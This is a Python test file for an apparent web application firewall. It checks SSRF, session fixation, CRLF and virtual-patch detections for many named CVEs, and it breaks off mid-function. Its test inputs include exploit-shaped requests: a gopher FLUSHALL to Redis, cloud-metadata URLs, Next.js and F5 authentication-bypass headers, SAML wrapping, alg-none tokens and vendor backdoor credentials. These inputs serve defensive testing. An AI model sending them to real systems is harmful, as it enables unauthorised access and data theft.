        ("/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fauth%2Fcallback%3Fx%3D1", set()),
        ("/authorize?redirect_uri=http%3A%2F%2F%5B%3A%3A1%5D%3A8400%2F", set()),
        ("/logout?post_logout_redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2F", set()),
        # Where a sign-in, a sign-out or a payment returns the browser to.
        ("/v2/logout?client_id=x&returnTo=http%3A%2F%2Flocalhost%3A3000%2F", set()),
        ("/auth/v1/authorize?provider=github&redirect_to=http%3A%2F%2Flocalhost%3A3000", set()),
        ("/sign-in?redirect_url=http%3A%2F%2F127.0.0.1%3A5173%2Fdashboard%3Ftab%3D1", set()),
        ("/login?next=http%3A%2F%2Flocalhost%3A8000%2Fadmin%2F", set()),
        ("/checkout?success_url=http%3A%2F%2Flocalhost%3A4242%2Fsuccess.html", set()),
        ("/sso/saml?SAMLRequest=fZJ&RelayState=http%3A%2F%2Flocalhost%3A8080%2Fapp", set()),
        ("/UI/Login?goto=http%3A%2F%2Flocalhost%3A8080%2Fapp%2F", set()),
        ("/sso/saml?RelayState=http%3A%2F%2F169.254.169.254%2Flatest%2F", {"ssrf"}),
        ("/login?next=http%3A%2F%2F10.0.0.5%2Fadmin", {"ssrf"}),
        ("/v2/logout?returnTo=http%3A%2F%2F169.254.169.254%2Flatest%2F", {"ssrf"}),
        ("/v2/logout?returnTo=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL", {"ssrf"}),
        # Still forgeries: cloud metadata, numeric spellings, credentials, other parameters.
        ("/authorize?redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", {"ssrf"}),
        ("/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%2Flatest%2Fmeta-data%2F", {"ssrf"}),
        ("/authorize?redirect_uri=http%3A%2F%2F0x7f000001%2Fcb", {"ssrf"}),
        ("/authorize?redirect_uri=http%3A%2F%2F10.0.0.5%3A8080%2Fadmin", {"ssrf"}),
        ("/authorize?redirect_uri=http%3A%2F%2Fevil.example%40127.0.0.1%2F", {"redir", "ssrf"}),
        ("/register?jwks_uri=http%3A%2F%2F127.0.0.1%3A6379%2F", {"ssrf"}),
        ("/hooks?callback_url=http%3A%2F%2Flocalhost%3A8080%2Fadmin", {"ssrf"}),
    ],
)
def test_loopback_redirect_uris(engine: Engine, request_: str, expected: set[str]) -> None:
    assert _types(engine, Request("GET", request_, (("Host", "idp.example.com"),))) == expected


def test_loopback_redirect_uris_in_a_registration(engine: Engine) -> None:
    body = b'{"redirect_uris": ["http://127.0.0.1/callback"], "jwks_uri": "http://localhost/"}'
    request = Request(
        "POST",
        "/register",
        (("Host", "idp.example.com"), ("Content-Type", "application/json")),
        body,
    )
    assert [(h.type.value, h.point) for h in engine.scan(request)] == [
        ("ssrf", "post.json.jwks_uri")
    ]


@pytest.mark.parametrize(
    ("client", "expected"),
    [
        # Keycloak's client: browsers are sent to its redirect URIs and call it from its web
        # origins; a developer's localhost is in both by design. So is CORS's list.
        (
            {"redirectUris": ["http://localhost:3000/*"], "webOrigins": ["http://localhost:3000"]},
            [],
        ),
        ({"cors": {"allowed_origins": "http://localhost:5173, http://127.0.0.1:8080"}}, []),
        # Auth0's application: its callbacks and sign-out returns, as redirect URIs are.
        (
            {
                "callbacks": ["http://localhost:3000/api/auth/callback"],
                "allowed_logout_urls": ["http://localhost:3000"],
            },
            [],
        ),
        ({"callbacks": ["http://169.254.169.254/latest/"]}, ["post.json.callbacks.0"]),
        # An origin has no path, and metadata is reached from anywhere.
        ({"webOrigins": ["http://127.0.0.1/admin"]}, ["post.json.webOrigins.0"]),
        ({"allowed_origins": "http://169.254.169.254"}, ["post.json.allowed_origins"]),
        ({"callback_url": "http://localhost:3000/cb"}, ["post.json.callback_url"]),
    ],
)
def test_a_client_s_browser_origins_are_no_forgery(
    engine: Engine, client: dict[str, object], expected: list[str]
) -> None:
    body = json.dumps(client).encode()
    request = Request("PUT", "/admin/clients/1", (("Content-Type", "application/json"),), body)
    assert [h.point for h in engine.scan(request) if h.type.value == "ssrf"] == expected


def _login(uri: str, body: bytes = b"", *headers: tuple[str, str]) -> Request:
    kind = (("Content-Type", "application/json"),) if body else ()
    return Request(
        "POST" if body else "GET", uri, (("Host", "app.example.com"), *headers, *kind), body
    )


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        # A link from another site that hands the victim a session id.
        (_login("/login?PHPSESSID=abc", b"", ("Referer", "https://evil.example.net/")), 15002),
        (_login("/", b'{"jsessionid": "x"}', ("Referer", "http://evil.example.net/")), 15002),
        # A framework's session cookie as a URL parameter, nobody's page behind it.
        (_login("/login;x?jsessionid=74B0CB414BD77D17"), 15003),
        # The same site (api and app share example.com), or an API's own field: clean.
        (_login("/login?jsessionid=abc", b"", ("Referer", "https://www.example.com/")), None),
        (_login("/api/events", b'{"session_id": "abc", "event": "view"}'), None),
        (_login("/api/events?session_id=abc"), None),
        (_login("/login?user=ann", b"", ("Referer", "https://evil.example.net/")), None),
        # A Java address in a query value, its session in the path: no query parameter.
        (_login("/login?next=/shop/cart;jsessionid=74B0CB414BD77D17"), None),
        # Addresses are sites of their own: 10.0.0.1 is not 192.168.0.1's neighbour.
        (
            Request(
                "GET",
                "/login?phpsessid=abc",
                (("Host", "192.168.0.1:8080"), ("Referer", "http://10.0.0.1/")),
            ),
            15002,
        ),
        (
            Request(
                "GET",
                "/login?phpsessid=abc",
                (("Host", "[::1]:8080"), ("Referer", "http://[::1]:8080/home")),
            ),
            None,
        ),
    ],
)
def test_session_fixation_is_decided_on_names_and_referer(
    engine: Engine, request_: Request, expected: int | None
) -> None:
    rules = [hit.rule for hit in engine.scan(request_) if hit.type.value == "session_fixation"]
    assert rules == ([expected] if expected else [])


def _sent(method: str, uri: str, *headers: tuple[str, str], body: bytes = b"") -> Request:
    return Request(method, uri, (("Host", "app.example.com"), *headers), body)


_SIGV4 = (
    "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20261205/us-east-1/s3/aws4_request,"
    " SignedHeaders=host;x-amz-content-sha256;x-amz-date,"
    " Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024"
)
_FORM = ("Content-Type", "application/x-www-form-urlencoded")


_KEYED = {"alg": "RS256", "jwk": {"kty": "RSA", "e": "AQAB", "n": "0vx7agoebGcQSuu"}}


def _saml_response(*assertions: str) -> bytes:
    """A SAML response of `assertions` as a browser posts it to a service provider."""
    response = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="r1"'
        ' Version="2.0"><samlp:Status><samlp:StatusCode'
        ' Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
        + "".join(assertions)
        + "</samlp:Response>"
    )
    encoded = base64.b64encode(response.encode()).decode()
    return b"SAMLResponse=" + quote(encoded, safe="").encode() + b"&RelayState=%2Fhome"


def _assertion(assertion_id: str, user: str, signature_object: str = "") -> str:
    """A signed assertion of `user`'s, its signature's Object holding `signature_object`."""
    signature = (
        '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
        f'<ds:Reference URI="#{assertion_id}"/></ds:SignedInfo>'
        f"<ds:SignatureValue>YWJj</ds:SignatureValue>{signature_object}</ds:Signature>"
    )
    return (
        '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
        f' ID="{assertion_id}" Version="2.0">{signature}<saml:Subject>'
        f"<saml:NameID>{user}</saml:NameID></saml:Subject></saml:Assertion>"
    )


def _jwt(header: dict[str, object], signature: str = "") -> str:
    parts = [header, {"sub": "admin", "name": "Ann"}]
    encoded = [base64.urlsafe_b64encode(json.dumps(p).encode()).rstrip(b"=") for p in parts]
    return ".".join(part.decode() for part in encoded) + "." + signature


def _ws_security(password: str, kind: str = "#PasswordText") -> bytes:
    return (
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header>'
        "<wsse:Security><wsse:UsernameToken><wsse:Username>admin</wsse:Username>"
        f'<wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/'
        f'oasis-200401-wss-username-token-profile-1.0{kind}">{password}</wsse:Password>'
        "</wsse:UsernameToken></wsse:Security></soap:Header></soap:Envelope>"
    ).encode()


_UNSIGNED = _jwt({"alg": "none", "typ": "JWT"})
_UNSIGNED_CAPS = _jwt({"alg": "NONE"})
_SIGNED = _jwt({"alg": "HS256", "typ": "JWT"}, "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        # Next.js (CVE-2025-29927): the middleware's own recursion mark, sent by a client.
        (
            _sent(
                "GET", "/dashboard", ("x-middleware-subrequest", "middleware:" * 4 + "middleware")
            ),
            (16001, "header.X-MIDDLEWARE-SUBREQUEST"),
        ),
        (
            _sent("GET", "/admin", ("X-Middleware-Subrequest", "pages/_middleware")),
            (16001, "header.X-MIDDLEWARE-SUBREQUEST"),
        ),
        (
            _sent("GET", "/php/ztp_gate.php/.js.map", ("X-PAN-AUTHCHECK", "off")),
            (16002, "header.X-PAN-AUTHCHECK"),
        ),
        (_sent("GET", "/php/ztp_gate.php", ("X-PAN-AUTHCHECK", "on")), None),
        # F5 BIG-IP (CVE-2022-1388): the proxy told to drop the token it checks.
        (
            _sent(
                "POST",
                "/mgmt/tm/util/bash",
                ("Connection", "keep-alive, X-F5-Auth-Token"),
                ("X-F5-Auth-Token", "a"),
            ),
            (16003, "header.CONNECTION"),
        ),
        (
            _sent("GET", "/admin", ("Connection", "close, X-Forwarded-For")),
            (16003, "header.CONNECTION"),
        ),
        (_sent("GET", "/", ("Connection", "keep-alive")), None),
        (
            _sent("GET", "/ws", ("Connection", "keep-alive, Upgrade"), ("Upgrade", "websocket")),
            None,
        ),
        (_sent("GET", "/", ("Connection", "Upgrade, HTTP2-Settings")), None),
        (
            _sent("POST", "/grpc.Service/Call", ("Connection", "TE, close"), ("TE", "trailers")),
            None,
        ),
        # CrushFTP (CVE-2025-31161): a SigV4 header without its scope and signature, or any
        # at its web interface; S3 clients sign theirs whole.
        (
            _sent(
                "GET",
                "/WebInterface/function/?command=getUserList",
                ("Authorization", "AWS4-HMAC-SHA256 Credential=crushadmin/"),
                ("Cookie", "CrushAuth=1743113839553_vD96EZ70ONL6xAd1DAJhXMZYMn1111"),
            ),
            (16004, "header.AUTHORIZATION"),
        ),
        (
            _sent("GET", "/WebInterface/function/", ("Authorization", _SIGV4)),
            (16004, "header.AUTHORIZATION"),
        ),
        (_sent("PUT", "/bucket/report.csv", ("Authorization", _SIGV4)), None),
        (_sent("PUT", "/webinterface/index.html", ("Authorization", _SIGV4)), None),
        # Citrix Bleed (CVE-2023-4966): a Host of 24 KB.
        (
            Request("GET", "/oauth/idp/.well-known/openid-configuration", (("Host", "a" * 24812),)),
            (16005, "header.HOST"),
        ),
        (
            Request(
                "GET",
                "/",
                (("Host", "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + ".example.com:8443"),),
            ),
            None,
        ),
        # SharePoint ToolShell (CVE-2025-53770): the sign-out page as the editor's Referer.
        (
            _sent(
                "POST",
                "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
                ("Referer", "/_layouts/SignOut.aspx"),
            ),
            (16006, "header.REFERER"),
        ),
        (
            _sent(
                "POST",
                "/_layouts/16/toolpane.aspx/?DisplayMode=Edit",
                ("Referer", "https://sp.example.com/_layouts/15/SignOut.aspx"),
            ),
            (16006, "header.REFERER"),
        ),
        (
            _sent(
                "POST",
                "/_layouts/15/ToolPane.aspx?DisplayMode=Edit",
                ("Referer", "https://sp.example.com/sites/hr/SitePages/Home.aspx"),
            ),
            None,
        ),
        # ScreenConnect (CVE-2024-1709), TeamCity (CVE-2023-42793): a path routed past the
        # sign-in check, percent-encoded or in any case as the server reads it.
        (_sent("GET", "/SetupWizard.aspx/literallyanything"), (16007, "path.0")),
        (_sent("GET", "/SetupWizard%2Easpx/x"), (16007, "path.0")),
        (_sent("GET", "/SetupWizard.aspx"), None),
        (_sent("POST", "/app/rest/users/id:1/tokens/RPC2"), (16008, "path.5")),
        (_sent("POST", "/APP/REST/users/id:1/tokens/rpc2;x"), (16008, "path.5")),
        (_sent("POST", "/RPC2"), None),
        (_sent("GET", "/app/rest/users/id:1/tokens"), None),
        # Cisco IOS XE (CVE-2023-20198): the implant's parameter.
        (
            _sent("POST", "/webui/logoutconfirm.html?logon_hash=1", body=b"<soap/>"),
            (16009, "query.logon_hash"),
        ),
        (_sent("GET", "/webui/logoutconfirm.html"), None),
        # Confluence (CVE-2023-22518): the setup wizard's restore on a running instance.
        (_sent("POST", "/json/setup-restore.action?synchrony=true"), (16010, "path.1")),
        (_sent("POST", "/json/setup-restore-local.action"), (16010, "path.1")),
        (_sent("POST", "/admin/restore.action"), None),
        # Citrix Bleed 2 (CVE-2025-5777): `login` with no `=`, its value read from memory.
        (
            _sent("POST", "/p/u/doAuthentication.do", _FORM, body=b"login"),
            (16011, "post.form.login"),
        ),
        (_sent("POST", "/p/u/doAuthentication.do", _FORM, body=b"login=ann&passwd=x"), None),
        # GitLab (CVE-2023-7028): a reset mailed to two addresses.
        (
            _sent(
                "POST",
                "/users/password",
                _FORM,
                body=b"authenticity_token=t&user%5Bemail%5D%5B%5D=victim%40example.com&user%5Bemail%5D%5B%5D=attacker%40example.net",
            ),
            (16012, "post.user[email]"),
        ),
        (
            _sent(
                "POST",
                "/users/password",
                ("Content-Type", "application/json"),
                body=b'{"user": {"email": ["victim@example.com", "attacker@example.net"]}}',
            ),
            (16012, "post.user[email]"),
        ),
        (
            _sent(
                "POST",
                "/users/password",
                _FORM,
                body=b"authenticity_token=t&user%5Bemail%5D=ann%40example.com",
            ),
            None,
        ),
        # OFBiz (CVE-2023-51467): a password change for no one; an `&` decoded in a value
        # is no field.
        (
            _sent("GET", "/webtools/control/ping?USERNAME&PASSWORD=&requirePasswordChange=Y"),
            (16013, "query.requirePasswordChange"),
        ),
        (
            _sent(
                "POST",
                "/webtools/control/ProgramExport",
                _FORM,
                body=b"USERNAME=a%26PASSWORD%3Db&requirePasswordChange=Y",
            ),
            (16013, "post.requirePasswordChange"),
        ),
        (
            _sent(
                "POST",
                "/webtools/control/login",
                _FORM,
                body=b"USERNAME=admin&PASSWORD=old&newPassword=n&newPasswordVerify=n&requirePasswordChange=Y",
            ),
            None,
        ),
        # SAP NetWeaver (CVE-2025-31324): Visual Composer's uploader, open to anyone.
        (
            _sent("POST", "/developmentserver/metadatauploader?CONTENT_TYPE=MODEL&CLIENT=1"),
            (16014, "path.1"),
        ),
        # PHPUnit (CVE-2017-9841): its eval-stdin.php, in the package's directory, asked
        # for at all; a code host's page of PHPUnit's source is not that.
        (_sent("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), (16037, "path.6")),
        (_sent("GET", "/phpunit/phpunit/-/blob/5.7/src/Util/PHP/eval-stdin.php"), None),
        # Laravel Ignition (CVE-2021-3129): its solution runner, whatever the view file
        # (a scanner's `xxxxxxx` asks whether it reads one), and its health check; the
        # debug page's own scripts are no probe.
        (
            _sent(
                "POST",
                "/_ignition/execute-solution",
                ("Content-Type", "application/json"),
                body=b'{"solution": "Facade\\\\Ignition\\\\Solutions\\\\'
                b'MakeViewVariableOptionalSolution",'
                b' "parameters": {"variableName": "x", "viewFile": "xxxxxxx"}}',
            ),
            (16040, "path.1"),
        ),
        (_sent("GET", "/_ignition/health-check"), (16040, "path.1")),
        (_sent("GET", "/_ignition/scripts/ignition.js"), None),
        # PHP-CGI's command line in a query of no `=`: its source shown, its configuration
        # set (a soft hyphen for Windows' code pages); a sort's `?-created_at` is no option.
        (_sent("GET", "/index.php?-s"), (16039, "query")),
        (
            _sent(
                "GET", "/cgi-bin/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1"
            ),
            (16039, "query"),
        ),
        (_sent("GET", "/api/items?-created_at"), None),
        (_sent("GET", "/x.php?\xads"), (16039, "query")),  # the soft hyphen's byte, raw
        (_sent("GET", "/x.php?-s=1"), None),
        # HTTP.sys (MS15-034): a byte position past 2^63; Apache Killer: 1,300 ranges. A
        # download resumed, a PDF viewer's few ranges, the largest position there is pass.
        (
            _sent("GET", "/welcome.png", ("Range", "bytes=0-18446744073709551615")),
            (16038, "header.RANGE"),
        ),
        (
            _sent(
                "HEAD",
                "/",
                ("Request-Range", "bytes=0-," + ",".join(f"5-{n}" for n in range(1300))),
            ),
            (16038, "header.REQUEST-RANGE"),
        ),
        (_sent("GET", "/video.mp4", ("Range", "bytes=1048576-")), None),
        (_sent("GET", "/doc.pdf", ("Range", "bytes=0-1023,4096-8191,65536-66559")), None),
        (_sent("GET", "/big.iso", ("Range", "bytes=0-9223372036854775807")), None),
        # A path for the back end to route instead of the one the proxy checked; the
        # proxy's own rewrite (ingress-nginx's to its authentication service) is a URL.
        (_sent("GET", "/", ("X-Original-URL", "/admin/users")), (16015, "header.X-ORIGINAL-URL")),
        (_sent("GET", "/home", ("X-Rewrite-URL", "/%61dmin")), (16015, "header.X-REWRITE-URL")),
        (_sent("GET", "/admin/", ("X-Original-URL", "/Admin?x=1")), None),
        (
            _sent("GET", "/oauth2/auth", ("X-Original-URL", "https://app.example.com/admin")),
            None,
        ),
        # A token of no algorithm: its claims taken unsigned, wherever it is sent.
        (
            _sent("GET", "/api/me", ("Authorization", "Bearer " + _UNSIGNED)),
            (16016, "header.AUTHORIZATION.jwt.header.alg"),
        ),
        (
            _sent("GET", "/api/me", ("Cookie", "theme=dark; token=" + _UNSIGNED)),
            (16016, "cookie.token.jwt.header.alg"),
        ),
        (
            _sent("GET", "/_api/web/currentuser?access_token=" + _UNSIGNED_CAPS),
            (16016, "query.access_token.jwt.header.alg"),
        ),
        (_sent("GET", "/api/me", ("Authorization", "Bearer " + _SIGNED)), None),
        # Ivanti Connect Secure (CVE-2025-22457): an address of thousands of digits.
        (
            _sent("GET", "/dana-na/auth/url_default/welcome.cgi", ("X-Forwarded-For", "1" * 2000)),
            (16017, "header.X-FORWARDED-FOR"),
        ),
        (
            _sent(
                "GET",
                "/",
                ("X-Forwarded-For", "203.0.113.7, 2001:db8:85a3::8a2e:370:7334, 10.0.0.1, unknown"),
            ),
            None,
        ),
        # Citrix ADC (CVE-2023-3519): its test endpoint.
        (_sent("GET", "/gwtest/formssso?event=start&target=" + "A" * 600), (16018, "path.1")),
        # D-Link NAS (CVE-2024-3272), PaperCut (CVE-2023-27350): a backdoor's account, a
        # setup wizard's last page.
        (
            _sent("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
            (16019, "query.user"),
        ),
        (_sent("GET", "/cgi-bin/nas_sharing.cgi?user=ann&passwd=x&cmd=15"), None),
        (_sent("GET", "/app?service=page/SetupCompleted"), (16020, "query.service")),
        (_sent("GET", "/app?service=page%2FSetupCompleted"), (16020, "query.service")),
        (_sent("GET", "/app?service=page/Home"), None),
        # Apache's rewrite truncated at an encoded `?` (Ivanti CSA, CVE-2024-8963); a `?`
        # in a page's name is none.
        (_sent("GET", "/client/index.php%3F.php/gsb/users.php"), (16021, "path.1")),
        (_sent("GET", "/wiki/Why%3F_(film)"), None),
        # Exchange ProxyLogon (CVE-2021-26855): the back end a front end is told to call.
        (
            _sent("POST", "/ecp/y.js", ("Cookie", "X-BEResource=localhost~1942062522;")),
            (16022, "cookie.X-BEResource"),
        ),
        (
            _sent(
                "POST",
                "/ecp/x.js",
                ("Cookie", "x-beresource=ex01/EWS/Exchange.asmx?a=~1942062522;"),
            ),
            (16022, "cookie.x-beresource"),
        ),
        (_sent("GET", "/owa/", ("Cookie", "X-BEResource=ex01.corp.example~1941997017")), None),
        # Kentico's Staging service (CVE-2025-2746, -2747): a token with no password.
        (
            _sent(
                "POST",
                "/CMSPages/Staging/SyncServer.asmx/ProcessSynchronizationTaskData",
                body=_ws_security(""),
            ),
            (16023, "post.xml.Password"),
        ),
        (
            _sent(
                "POST", "/CMSPages/Staging/SyncServer.asmx", body=_ws_security("x", "#PasswordNone")
            ),
            (16023, "post.xml.Password"),
        ),
        (_sent("POST", "/CMSPages/Staging/SyncServer.asmx", body=_ws_security("s3cret")), None),
        # Gladinet Triofox (CVE-2025-12480): its setup pages trust a local Host.
        (
            Request("GET", "/management/CommandCenter/AdminAccount.aspx", (("Host", "localhost"),)),
            (16024, "header.HOST"),
        ),
        (
            Request(
                "GET",
                "/management/CommandCenter/AdminAccount.aspx",
                (("Host", "files.example.com"),),
            ),
            None,
        ),
        (
            Request(
                "GET", "/management/CommandCenter/AdminDatabase.aspx", (("Host", "[::1]:8080"),)
            ),
            (16024, "header.HOST"),
        ),
        # Tomcat (CVE-2025-24813): a session read from the file a partial PUT wrote.
        (_sent("GET", "/", ("Cookie", "JSESSIONID=.deserialize")), (16025, "cookie.JSESSIONID")),
        (_sent("GET", "/", ("Cookie", "JSESSIONID=8F3A0C1B2D4E.worker1")), None),
        (
            _sent("PUT", "/x.session", ("Content-Range", "bytes 0-5/100"), body=b"gadget"),
            (16025, "path.0"),
        ),
        (_sent("PUT", "/notes/x.session", body=b"a note"), None),
        # SonicOS SSL VPN (CVE-2024-53704): a session id of NUL bytes.
        (
            _sent("GET", "/cgi-bin/sslvpnclient", ("Cookie", "swap=" + "A" * 43 + "=")),
            (16026, "cookie.swap"),
        ),
        (
            _sent("GET", "/cgi-bin/sslvpnclient", ("Cookie", "swap=q8ZJrM2WAAAAhRkQyNqLz0F4tWcm")),
            None,
        ),
        # Ivanti vTM (CVE-2024-7593): the wizard's user section, reached without a sign-in.
        (
            _sent("GET", "/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers"),
            (16027, "query.section"),
        ),
        (_sent("GET", "/apps/zxtm/wizard.fcgi?section=Pools"), None),
        # A vendor's built-in account: SolarWinds Web Help Desk (CVE-2024-28987), Cisco's
        # Smart Licensing Utility (CVE-2024-20439).
        (
            _sent(
                "GET",
                "/helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/",
                (
                    "Authorization",
                    "Basic " + base64.b64encode(b"helpdeskIntegrationUser:dev-C4F8025E7").decode(),
                ),
            ),
            (16028, "header.AUTHORIZATION.password"),
        ),
        (
            _sent(
                "GET",
                "/cslu/v1/scheduler/jobs",
                (
                    "Authorization",
                    "Basic " + base64.b64encode(b"cslu-windows-client:Library4C$LU").decode(),
                ),
            ),
            (16028, "header.AUTHORIZATION.password"),
        ),
        (
            _sent(
                "GET",
                "/cslu/v1/scheduler/jobs",
                ("Authorization", "Basic " + base64.b64encode(b"ana:Library4C$LU").decode()),
            ),
            None,
        ),
        # A credential's token that names its own key (CVE-2018-0114): a proof of
        # possession (DPoP) and a client's assertion carry one by design.
        (
            _sent("GET", "/", ("Authorization", "Bearer " + _jwt(_KEYED, "c2ln"))),
            (16029, "header.AUTHORIZATION.jwt.header.jwk.kty"),
        ),
        (
            _sent(
                "GET", "/", ("Cookie", "s=" + _jwt({"alg": "RS256", "jku": "https://x/j"}, "c2"))
            ),
            (16029, "cookie.s.jwt.header.jku"),
        ),
        (_sent("GET", "/", ("DPoP", _jwt(_KEYED | {"typ": "dpop+jwt"}, "c2ln"))), None),
        # Joomla's web services (CVE-2023-23752): the route's own flag, asked for.
        (
            _sent("GET", "/api/index.php/v1/config/application?public=true"),
            (16030, "query.public"),
        ),
        (_sent("GET", "/api/index.php/v1/users?public=false"), (16030, "query.public")),
        (_sent("GET", "/api/index.php/v1/users?public=0&page[limit]=20"), None),
        (_sent("GET", "/api/index.php/v1/content/articles?filter[search]=public"), None),
        # Oracle Identity Manager (CVE-2025-61757): a path that a filter takes for a WADL.
        (
            _sent("GET", "/iam/governance/applicationmanagement/templates;.wadl"),
            (16031, "path.3"),
        ),
        (_sent("GET", "/admin;.css/users"), (16031, "path.0")),
        (_sent("GET", "/api/application.wadl"), None),
        (_sent("GET", "/shop/cart;jsessionid=74B0CB414BD77D17"), None),
        # Ivanti EPMM (CVE-2023-35078, -35082): its API under a path with no sign-in.
        (_sent("GET", "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1"), (16033, "path.2")),
        (_sent("GET", "/mifs/asfV3/api/v2/admins/users"), (16033, "path.2")),
        (_sent("GET", "/mifs/user/login.jsp"), None),
        # OFBiz (CVE-2024-38856, -45195): a view routed past forgotPassword's open map.
        (_sent("POST", "/webtools/control/forgotPassword/viewdatafile"), (16034, "path.3")),
        (_sent("GET", "/webtools/control/forgotPassword/;/ProgramExport"), (16034, "path.4")),
        (_sent("GET", "/ecommerce/control/forgotpassword?USERNAME=ana"), None),
        # Apache Camel (CVE-2025-27636, -29891): its own header, in a case its filter misses,
        # or a query parameter named so; not a `camelCase` option.
        (
            _sent("POST", "/api/process", ("CAmelExecCommandExecutable", "id")),
            (16035, "header.CAMELEXECCOMMANDEXECUTABLE"),
        ),
        (
            _sent("GET", "/api/process?CAmelExecCommandExecutable=ls"),
            (16035, "query.CAmelExecCommandExecutable"),
        ),
        (_sent("GET", "/api/users?camelCase=true", ("Camel-Case", "1")), None),
        # SAML signature wrapping (CVE-2024-45409 and its kin): a second assertion beside
        # the signed one, or one inside its signature; one signed assertion is a sign-in.
        (
            _sent("POST", "/saml/acs", _FORM, body=_saml_response(_assertion("a1", "ann"))),
            None,
        ),
        (
            _sent(
                "POST",
                "/saml/acs",
                _FORM,
                body=_saml_response(_assertion("evil", "admin"), _assertion("a1", "ann")),
            ),
            (16036, "post.form.SAMLResponse.base64.xml.samlp:Response.saml:Assertion.@ID"),
        ),
        (
            _sent(
                "POST",
                "/saml/acs",
                _FORM,
                body=_saml_response(
                    _assertion(
                        "a1", "admin", "<ds:Object>" + _assertion("a1", "ann") + "</ds:Object>"
                    )
                ),
            ),
            (
                16036,
                "post.form.SAMLResponse.base64.xml.samlp:Response.saml:Assertion.ds:Signature"
                ".ds:Object.saml:Assertion.@ID",
            ),
        ),
        # MOVEit Transfer (CVE-2023-34362): session variables a client sets through the
        # ISAPI front, past its check of the transaction's name; a transaction alone passes.
        (
            _sent(
                "POST",
                "/moveitisapi/moveitisapi.dll?action=m2",
                ("xx-silock-transaction", "folder_add_by_path"),
                ("X-siLock-Transaction", "session_setvars"),
                ("X-siLock-SessVar0", "MyUsername: Guest"),
            ),
            (16041, "header.XX-SILOCK-TRANSACTION"),
        ),
        (
            _sent(
                "POST",
                "/moveitisapi/moveitisapi.dll?action=m2",
                ("X-siLock-SessVar1", "MyPkgAccessCode: 123"),
            ),
            (16041, "header.X-SILOCK-SESSVAR1"),
        ),
        (
            _sent("POST", "/machine2.aspx", ("X-SILOCK-TRANSACTION", " Session_SetVars")),
            (16041, "header.X-SILOCK-TRANSACTION"),
        ),
        (
            _sent(
                "POST",
                "/moveitisapi/moveitisapi.dll?action=m2",
                ("X-siLock-Transaction", "folder_add_by_path"),
            ),
            None,
        ),
        # Nacos (CVE-2021-29441): its users managed by a client that names itself one of
        # Nacos' servers; the servers' own traffic, and a console's, pass.
        (
            _sent(
                "GET", "/nacos/v1/auth/users?pageNo=1&pageSize=9", ("User-Agent", "Nacos-Server")
            ),
            (16042, "header.USER-AGENT"),
        ),
        (
            _sent(
                "POST",
                "/nacos/v1/auth/users/?username=x&password=y",
                ("User-Agent", "Nacos-Server 1.4.0"),
            ),
            (16042, "header.USER-AGENT"),
        ),
        (
            _sent(
                "PUT", "/nacos/v1/ns/instance/beat?serviceName=a", ("User-Agent", "Nacos-Server")
            ),
            None,
        ),
        (_sent("GET", "/nacos/v1/auth/users?pageNo=1", ("User-Agent", "Mozilla/5.0")), None),
        # n8n's form trigger (CVE-2026-21858): files it is told are on its own disk.
        (
            _sent(
                "POST",
                "/n8n/form/3f2a",
                ("Content-Type", "application/json"),
                body=b'{"files": {"f": {"filepath": "/home/node/.n8n/config", "size": 1}}}',
            ),
            (16032, "post.json.files.f.filepath"),
        ),
        (
            _sent(
                "POST",
                "/api/drive/sync",
                ("Content-Type", "application/json"),
                body=b'{"files": {"f": {"filepath": "docs/a.txt"}}}',
            ),
            None,
        ),
        (
            _sent(
                "POST",
                "/token",
                _FORM,
                body=b"grant_type=client_credentials&client_assertion=" + _jwt(_KEYED).encode(),
            ),
            None,
        ),
    ],
)
def test_known_exploits_without_a_payload_are_virtual_patches(
    engine: Engine, request_: Request, expected: tuple[int, str] | None
) -> None:
    found = [(hit.rule, hit.point) for hit in engine.scan(request_) if hit.type.value == "vpatch"]
    assert found == ([expected] if expected else [])


def test_a_request_line_is_a_log_line_in_a_body_and_smuggling_in_a_query(engine: Engine) -> None:
    line = "GET /index.html HTTP/1.1 200 512"
    body = json.dumps({"log": line}).encode()
    assert (
        _types(engine, Request("POST", "/logs", (("Content-Type", "application/json"),), body))
        == set()
    )
    assert _types(engine, Request("GET", "/?arg=" + quote(line))) == {"crlf"}
    smuggled = json.dumps({"log": "GET /admin HTTP/1.1\r\nHost: internal\r\n\r\n"}).encode()
    request = Request("POST", "/logs", (("Content-Type", "application/json"),), smuggled)
    assert "crlf" in _types(engine, request)


def test_a_response_body_after_an_empty_line_is_split_in_a_cookie_not_in_a_body(
    engine: Engine,
) -> None:
    page = "munchmuch\r\n\r\n<HTML><title></title></HTML>"
    cookie = Request("GET", "/", (("Cookie", "oreo=" + quote(page)),))
    assert _types(engine, cookie) == {"crlf"}
    template = json.dumps({"template": "Hi,\n\n<html><body>Thanks!</body></html>"}).encode()
    mail = Request("POST", "/mails", (("Content-Type", "application/json"),), template)
    assert _types(engine, mail) == set()


def test_ruby_marshal_binary_is_read_for_gadgets_alone(engine: Engine) -> None:
